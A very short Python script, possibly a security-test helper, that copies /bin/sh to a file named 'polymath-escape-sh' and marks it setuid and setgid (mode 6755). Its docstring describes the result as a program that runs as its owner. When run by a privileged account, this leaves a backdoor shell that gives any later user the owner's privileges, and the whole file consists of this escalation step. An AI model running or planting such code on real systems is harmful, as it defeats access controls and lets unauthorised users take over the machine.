"""Makes a program that runs as its owner."""

import os
import shutil

shutil.copy("/bin/sh", "polymath-escape-sh")
os.chmod("polymath-escape-sh", 0o6755)
